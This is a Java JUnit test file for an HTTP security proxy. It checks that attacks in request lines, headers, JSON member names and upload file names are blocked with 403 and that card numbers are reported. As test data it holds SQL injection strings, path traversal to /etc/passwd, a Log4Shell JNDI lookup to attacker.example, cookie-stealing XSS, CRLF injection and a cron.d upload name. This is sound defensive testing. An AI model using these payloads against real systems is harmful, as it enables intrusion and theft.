package dev.sluice.standalone.serve;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Attacks sent in the request line or a header, through {@code sluice serve} with the default
 * policy over real sockets: refused with 403 before the upstream is called, the event naming
 * where the value sat. A card number in a query string is reported with the request; everyday
 * requests pass untouched. An attack written as a JSON member's name, or as an upload's file name,
 * is refused as well.
 */
class RequestHeadServeTest {
    private static final List<String> RECEIVED = new CopyOnWriteArrayList<>();

    @TempDir
    static Path dir;
    private static HttpServer upstream;
    private static ServeRuntime serve;

    @BeforeAll
    static void start() throws Exception {
        upstream = ServeTests.recordingUpstream(RECEIVED,
                ex -> ex.getRequestMethod() + " " + ex.getRequestURI() + " "
                        + new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
        serve = ServeTests.serveDefault(upstream, dir.resolve("events.jsonl"));
    }

    @AfterAll
    static void stop() {
        ServeTests.stop(serve, upstream);
    }

    private static String proxy(String target) {
        return "http://127.0.0.1:" + serve.proxyPort() + target;
    }

    private static HttpResponse<String> get(String target, String... headers) throws IOException, InterruptedException {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(proxy(target))).timeout(Duration.ofSeconds(10));
        for (int i = 0; i < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        return ServeTests.CLIENT.send(b.GET().build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The event of a refused request, by the id its 403 names. */
    private static JsonNode eventOf(HttpResponse<String> refused) throws Exception {
        String id = ServeTests.JSON.readTree(refused.body()).path("event_id").asText();
        return ServeTests.awaitEvent(dir.resolve("events.jsonl"), e -> e.path("exchangeId").asText().equals(id));
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(delimiter = '|', value = {
        "query|/search?q=0%20UNION%20SELECT%20username,%20password%20FROM%20users--||attack.sqli|query:q",
        "path|/static/..%2f..%2f..%2fetc%2fpasswd||attack.lfi|path",
        "user-agent|/|User-Agent|attack.log4shell|header:user-agent",
        "x-api-version|/|X-Api-Version|attack.log4shell|header:x-api-version",
        "referer|/|Referer|attack.xss|header:referer",
        "cookie|/|Cookie|attack.sqli|cookie:id",
        "crlf|/set-lang?lang=en%0d%0aSet-Cookie:%20sid=fixed||attack.crlf|query:lang",
        "scanner|/|User-Agent|attack.scanner|header:user-agent",
    })
    void anAttackInTheHeadIsRefusedBeforeTheUpstream(String where, String target, String header, String id,
                                                    String path) throws Exception {
        String value = switch (where) {
            case "referer" -> "https://shop.example/<script>alert(document.cookie)</script>";
            case "cookie" -> "theme=dark; id=1' OR '1'='1";
            case "scanner" -> "sqlmap/1.7.4#stable (https://sqlmap.org)";
            default -> "${jndi:ldap://attacker.example/a}";
        };
        int before = RECEIVED.size();
        HttpResponse<String> r = header == null ? get(target) : get(target, header, value);
        assertEquals(403, r.statusCode(), r.body());
        assertEquals(before, RECEIVED.size(), "nothing reached the upstream: " + RECEIVED);
        JsonNode event = eventOf(r);
        assertEquals("detector:" + id, event.path("reason").asText(), event.toString());
        assertEquals("request", event.path("direction").asText());
        assertEquals("blocked", event.path("delivery").asText());
        assertEquals(path, ServeTests.finding(event, id).path("path").asText(), event.toString());
        assertTrue(!event.toString().contains("jndi:ldap") && !event.toString().contains("alert(document"),
                "no raw value in the event: " + event);
    }

    @Test
    void aCardInTheQueryIsReportedWithTheRequestBody() throws Exception {
        HttpResponse<String> r = ServeTests.CLIENT.send(HttpRequest.newBuilder(
                        URI.create(proxy("/orders?card=4111111111111111"))).timeout(Duration.ofSeconds(10))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"note\":\"call me on 555-0100\",\"email\":\"jo@mail.net\"}"))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, r.statusCode());
        JsonNode event = ServeTests.awaitEvent(dir.resolve("events.jsonl"), e -> e.path("direction").asText()
                .equals("request") && e.path("path").asText().equals("/orders"));
        assertEquals("query:card", ServeTests.finding(event, "credit_card").path("path").asText(), event.toString());
        assertEquals("$.email", ServeTests.finding(event, "email").path("path").asText(), event.toString());
        assertEquals("alert", event.path("action").asText());
        assertEquals(1, ServeTests.events(dir.resolve("events.jsonl")).stream().filter(e -> e.path("direction")
                .asText().equals("request") && e.path("path").asText().equals("/orders")).count(),
                "one event for the request's head and body");
    }

    @Test
    void aCardInTheQueryOfABodilessRequestIsReportedAlone() throws Exception {
        assertEquals(200, get("/cards/lookup?pan=4111111111111111").statusCode());
        JsonNode event = ServeTests.awaitEvent(dir.resolve("events.jsonl"), e -> e.path("path").asText()
                .equals("/cards/lookup"));
        assertEquals("query:pan", ServeTests.finding(event, "credit_card").path("path").asText());
        assertEquals("forwarded", event.path("delivery").asText());
    }

    @Test
    void everydayRequestsPassUntouched() throws Exception {
        int before = RECEIVED.size();
        HttpResponse<String> r = get("/search?q=select+a+plan&sort=-created_at&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb",
                "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                        + "Chrome/120.0.0.0 Safari/537.36",
                "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "Referer", "https://shop.example/products/shoes?color=red&size=42#reviews",
                "Cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.abc123def456",
                "Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"
                        + ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U");
        assertEquals(200, r.statusCode(), r.body());
        assertEquals(before + 1, RECEIVED.size());
        assertTrue(RECEIVED.get(before).startsWith("GET /search?q=select+a+plan&sort=-created_at"), RECEIVED.toString());
    }

    @Test
    void anAttackInAMemberNameIsRefused() throws Exception {
        int before = RECEIVED.size();
        HttpResponse<String> r = ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy("/profile")))
                .timeout(Duration.ofSeconds(10)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"settings\":{\"<img src=x onerror=alert(document.domain)>\":1}}"))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(403, r.statusCode(), r.body());
        assertEquals(before, RECEIVED.size());
        assertEquals("(name)", ServeTests.finding(eventOf(r), "attack.xss").path("path").asText());
    }

    /** An upload whose file name climbs out of its folder, as a handler that joins it to one would write it. */
    @Test
    void anUploadNamedToClimbOutOfItsFolderIsRefused() throws Exception {
        int before = RECEIVED.size();
        String body = "--zz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../../../etc/cron.d/x\"\r\n"
                + "Content-Type: text/plain\r\n\r\n* * * * * root id\r\n--zz--\r\n";
        HttpResponse<String> r = ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy("/upload")))
                .timeout(Duration.ofSeconds(10)).header("Content-Type", "multipart/form-data; boundary=zz")
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(403, r.statusCode(), r.body());
        assertEquals(before, RECEIVED.size());
        assertEquals("(filename)", ServeTests.finding(eventOf(r), "attack.lfi").path("path").asText());
    }

    @Test
    void anAttackInTheHeadIsRefusedOverH2c() throws Exception {
        int before = RECEIVED.size();
        Process curl = new ProcessBuilder("curl", "-sS", "--http2-prior-knowledge", "-o", "/dev/null", "-w",
                "%{http_code} %{http_version}", "-H", "User-Agent: ${jndi:ldap://attacker.example/a}", proxy("/"))
                .redirectErrorStream(true).start();
        assertTrue(curl.waitFor(20, TimeUnit.SECONDS));
        String out = new String(curl.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertEquals("403 2", out.strip());
        assertEquals(before, RECEIVED.size());
    }
}
